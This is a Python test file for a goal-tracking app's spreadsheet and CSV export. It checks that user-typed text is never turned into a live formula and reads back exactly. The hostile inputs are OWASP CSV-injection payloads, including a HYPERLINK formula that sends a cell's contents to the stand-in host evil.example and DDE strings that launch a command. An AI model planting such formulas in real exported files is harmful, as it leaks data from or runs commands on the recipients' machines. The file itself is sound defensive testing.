"""Finding 3 of issue 11: spreadsheet exports never run user text as a formula, and read back whole.

The payloads are OWASP's CSV-injection examples (https://owasp.org/www-community/attacks/CSV_Injection:
``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0``, ``@SUM(...)``, ``+``/``-`` prefixes, tab and CR), put
into the titles, owners and notes a colleague could type. The workbook is opened with openpyxl and
every cell inspected; the CSV files are read with the csv module, cell by cell.
"""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from goalbook.io.tables import export_tables, import_tables
from goalbook.model import Goalbook

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a cell as a formula (OWASP's list)."""
LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click for details")'
PAYLOADS = {
    "objective title": LEAK,
    "objective description": "=cmd|' /C calc'!A0",
    "key result title": "+1+cmd|' /C calc'!A0",
    "key result owner": "-2+3",
    "smart goal statement": "@SUM(1+1)*cmd|' /C calc'!A0",
    "initiative title": "\t=1+1",
    "check-in wins": "\r=1+1",
    "comment text": "line one\rline two, after a bare CR",
    "kpi name": "'=already quoted by hand",
    "kpi unit": "''",
    "initiative external_ref": "_x000D_ stays literal, a bell \x07 stays a bell",
}


def hostile(book: Goalbook) -> Goalbook:
    """``book`` with every payload in a text field someone could type."""
    o = book.objectives[0]
    kr = replace(o.key_results[0], title=PAYLOADS["key result title"], owner=PAYLOADS["key result owner"])
    o = replace(o, title=PAYLOADS["objective title"], description=PAYLOADS["objective description"],
                key_results=[kr, *o.key_results[1:]])
    return replace(
        book, organisation="=1+1 Clinics", objectives=[o, *book.objectives[1:]],
        smart_goals=[replace(book.smart_goals[0], statement=PAYLOADS["smart goal statement"])],
        initiatives=[replace(book.initiatives[0], title=PAYLOADS["initiative title"],
                             external_ref=PAYLOADS["initiative external_ref"])],
        kpis=[replace(book.kpis[0], name=PAYLOADS["kpi name"], unit=PAYLOADS["kpi unit"])],
        check_ins=[replace(book.check_ins[0], wins=PAYLOADS["check-in wins"]), *book.check_ins[1:]],
        comments=[replace(book.comments[0], text=PAYLOADS["comment text"])])


def texts(book: Goalbook) -> dict[str, str | None]:
    o, kr = book.objectives[0], book.objectives[0].key_results[0]
    return {"objective title": o.title, "objective description": o.description, "key result title": kr.title,
            "key result owner": kr.owner, "smart goal statement": book.smart_goals[0].statement,
            "initiative title": book.initiatives[0].title, "check-in wins": book.check_ins[0].wins,
            "comment text": book.comments[0].text, "kpi name": book.kpis[0].name, "kpi unit": book.kpis[0].unit,
            "initiative external_ref": book.initiatives[0].external_ref}


def test_no_workbook_cell_is_a_formula_and_every_payload_is_text(small_book: Goalbook, tmp_path: Path) -> None:
    path = export_tables(hostile(small_book), tmp_path / "goals.xlsx")
    workbook = openpyxl.load_workbook(path)  # formulas stay formulas (data_only=False)
    seen = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(FORMULA_TRIGGERS), f"{sheet.title}!{cell.coordinate}"
                    seen.append(cell.value)
    assert "'" + LEAK in seen and "'=1+1 Clinics" in seen and "'\t=1+1" in seen


def test_no_csv_cell_starts_like_a_formula(small_book: Goalbook, tmp_path: Path) -> None:
    folder = export_tables(hostile(small_book), tmp_path / "tables")
    cells = []
    for file in sorted(folder.glob("*.csv")):
        with file.open(newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        width = len(rows[0])
        for number, row in enumerate(rows, 1):
            assert len(row) == width, f"{file.name} row {number} has {len(row)} cells, the header {width}"
            for cell in row:
                assert not cell.startswith(FORMULA_TRIGGERS), f"{file.name} row {number}: {cell!r}"
                cells.append(cell)
    assert "'" + LEAK in cells and "'\r=1+1" in cells and "line one\rline two, after a bare CR" in cells


@pytest.mark.parametrize("target", ["tables", "goals.xlsx"])
def test_what_was_exported_reads_back_exactly(small_book: Goalbook, tmp_path: Path, target: str) -> None:
    book = hostile(small_book)
    back = import_tables(export_tables(book, tmp_path / target))
    assert texts(back) == texts(book) == PAYLOADS
    assert back.organisation == "=1+1 Clinics"


@pytest.mark.parametrize("text", ["", "plain", "=1", "+", "-5", "@x", "\t", "\r\n", "'", "''", "'=1", "''=1",
                                  "'Tis the season", "a=b"])
def test_neutralise_is_undone_by_restore(text: str) -> None:
    from goalbook.io.tables import neutralise, restore

    cell = neutralise(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert restore(cell) == text
